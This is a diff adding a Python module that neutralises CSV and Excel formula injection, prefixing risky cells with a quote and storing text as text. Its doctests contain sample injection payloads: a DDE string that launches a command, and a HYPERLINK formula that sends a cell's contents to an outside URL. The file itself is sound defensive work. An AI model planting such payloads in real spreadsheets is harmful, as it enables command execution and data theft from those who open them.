@@ -1,0 +1,140 @@
+"""Cells that stay text: every CSV and ``.xlsx`` cjgraph writes, written so that no spreadsheet
+runs a plan's text as a formula, and read back so that nothing is lost.
+
+Plan text is untrusted (STYLE.md). In a CSV a cell beginning with ``=``, ``+``, ``-``, ``@``,
+a tab or a carriage return is what a spreadsheet reads as a formula, so it is written with a
+leading ``'`` as OWASP's CSV-injection guidance describes (a plain number such as ``-2`` is
+left as it is: a spreadsheet reads it as that number); a cell already beginning with
+``'`` before one of those characters (or before another ``'``) gets one more, so that
+:func:`from_csv_text` undoes exactly what :func:`csv_text` did. Numbers are written as they
+are (``-2`` is a number, not a formula). A row holding a carriage return is written fully
+quoted, so it reads back as one row. In ``.xlsx`` every text is stored as a text cell (never
+a formula), marked "quote prefix" when it begins like a formula so that Excel keeps it text
+when the cell is edited; characters XML cannot hold (NUL and the other C0 controls but tab
+and newlines) are dropped.
+
+Examples
+--------
+>>> csv_text("=1+cmd|' /C calc'!A0")
+"'=1+cmd|' /C calc'!A0"
+>>> from_csv_text(csv_text("=1+2")), from_csv_text(csv_text("'=x")), from_csv_text("'hello")
+('=1+2', "'=x", "'hello")
+>>> import io
+>>> buf = io.StringIO()
+>>> write_csv(buf, [["ref", "text"], ["A1", "-cut costs"], ["A2", "line\\rbreak"], ["n", "-2"]])
+>>> print(buf.getvalue().replace("\\r", "<CR>"), end="")
+ref,text
+A1,'-cut costs
+"A2","line<CR>break"
+n,-2
+>>> [[from_csv_text(c) for c in row] for row in read_csv(buf.getvalue())][1:3]
+[['A1', '-cut costs'], ['A2', 'line\\rbreak']]
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+from typing import IO, Any
+
+__all__ = ["FORMULA_START", "csv_text", "from_csv_text", "write_csv", "read_csv", "write_xlsx", "xml_safe"]
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")
+
+
+def csv_text(value: str) -> str:
+    """``value`` as a CSV cell no spreadsheet runs (see the module docstring)."""
+    if value[:1] in FORMULA_START and not _NUMBER.fullmatch(value):
+        return "'" + value
+    if value[:1] == "'" and value[1:2] in (*FORMULA_START, "'"):
+        return "'" + value
+    return value
+
+
+def from_csv_text(value: str) -> str:
+    """Undo :func:`csv_text`; any other text is returned as it is.
+
+    >>> all(from_csv_text(csv_text(t)) == t for t in ["-2", "'-2", "''=", "'", "@", "+1e5", "-x"])
+    True
+    """
+    if value[:1] == "'" and value[1:2] in (*FORMULA_START, "'"):
+        return value[1:]
+    return value
+
+
+def _csv_cell(value: Any) -> Any:
+    return csv_text(value) if isinstance(value, str) else value
+
+
+def write_csv(fh: IO[str], rows: Iterable[Sequence[Any]]) -> None:
+    """Write ``rows`` to ``fh`` (opened with ``newline=""``): text neutralised, numbers as they are."""
+    plain = csv.writer(fh, lineterminator="\n")
+    quoted = csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    for row in rows:
+        cells = [_csv_cell(v) for v in row]
+        # Python's writer quotes a field holding its line terminator, not a bare CR: quote the row
+        (quoted if any(isinstance(v, str) and "\r" in v for v in cells) else plain).writerow(cells)
+
+
+def read_csv(text: str) -> list[list[str]]:
+    """The rows of a CSV text as written by :func:`write_csv` (cells still neutralised)."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def xml_safe(value: str) -> str:
+    """``value`` without the control characters an ``.xlsx`` (XML) cannot hold."""
+    return _CONTROL.sub("", value)
+
+
+def write_xlsx(path: Path, sheets: dict[str, list[list[Any]]]) -> None:
+    """Write sheets of rows (header first, in bold, frozen) to ``path``; text stays text.
+
+    >>> import tempfile, pathlib
+    >>> from openpyxl import load_workbook
+    >>> path = pathlib.Path(tempfile.mkdtemp()) / "t.xlsx"
+    >>> write_xlsx(path, {"actions": [["ref", "text"], ["A1", '=0+HYPERLINK("http://x?"&B2)'], ["n", 3]]})
+    >>> ws = load_workbook(path)["actions"]
+    >>> [(c.value, c.data_type) for c in ws[2]]
+    [('A1', 's'), ('=0+HYPERLINK("http://x?"&B2)', 's')]
+    >>> ws["B2"].quotePrefix, ws["B3"].value
+    (True, 3)
+    """
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Font
+
+    wb = Workbook(write_only=True)
+    bold = Font(bold=True)
+    for name, rows in sheets.items():
+        ws = wb.create_sheet(name[:31])
+        if rows:
+            ws.freeze_panes = "A2"
+            for i, head in enumerate(rows[0]):
+                width = max((len(str(r[i])) for r in rows if i < len(r) and r[i] is not None), default=10)
+                ws.column_dimensions[_column_letter(i)].width = min(max(width, len(str(head))) + 2, 80)
+        for n, row in enumerate(rows):
+            cells = []
+            for value in row:
+                c = WriteOnlyCell(ws, value=None)
+                if isinstance(value, str) and value:
+                    c.value = xml_safe(value)
+                    c.data_type = "s"  # stored as text, never a formula
+                    c.quotePrefix = value[:1] in FORMULA_START
+                else:
+                    c.value = value
+                if n == 0:
+                    c.font = bold
+                cells.append(c)
+            ws.append(cells)
+    wb.save(path)
+
+
+def _column_letter(i: int) -> str:
+    from openpyxl.utils import get_column_letter
+
+    return get_column_letter(i + 1)
